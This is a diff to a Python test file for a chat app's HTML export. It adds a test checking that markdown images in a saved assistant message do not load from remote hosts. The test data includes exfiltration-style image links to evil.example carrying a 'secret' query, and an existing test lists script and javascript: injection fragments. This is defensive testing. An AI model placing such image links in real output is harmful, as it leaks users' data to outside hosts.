@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 import time
 from collections.abc import Callable, Iterator
 from typing import Any
@@ -132,6 +133,23 @@ def test_nothing_of_a_conversation_becomes_code_of_the_page() -> None:
     for danger in ("<script", "<img src=x", '"javascript:', "<i>", '"data:text/html'):
         assert danger not in made
     assert "stopped" in made
+
+
+def test_a_saved_conversation_loads_no_picture_from_elsewhere() -> None:
+    text = (
+        "![a *chart*](https://evil.example/x.png?q=secret) ![b][r] [![c](//evil.example/c)](/d) "
+        "![dot](data:image/png;base64,AAAA) ![e](data:image/svg+xml;base64,AAAA) ![](f.png)"
+        "\n\n[r]: https://evil.example/r"
+    )
+    message = Message(
+        new_id(), new_id(), None, Role.ASSISTANT, [TextPart(text)], Status.COMPLETE, 0
+    )
+    made = conversation(None, [message])
+    assert re.findall("<img[^>]*", made) == ['<img src="data:image/png;base64,AAAA" alt="dot" /']
+    link = '<a href="https://evil.example/x.png?q=secret">a <em>chart</em> (evil.example)</a>'
+    assert link in made
+    assert '<a href="https://evil.example/r">b (evil.example)</a>' in made
+    assert '<a href="/d">c (evil.example)</a>' in made
 
 
 def test_what_is_loaded_into_notebooks_is_small() -> None:
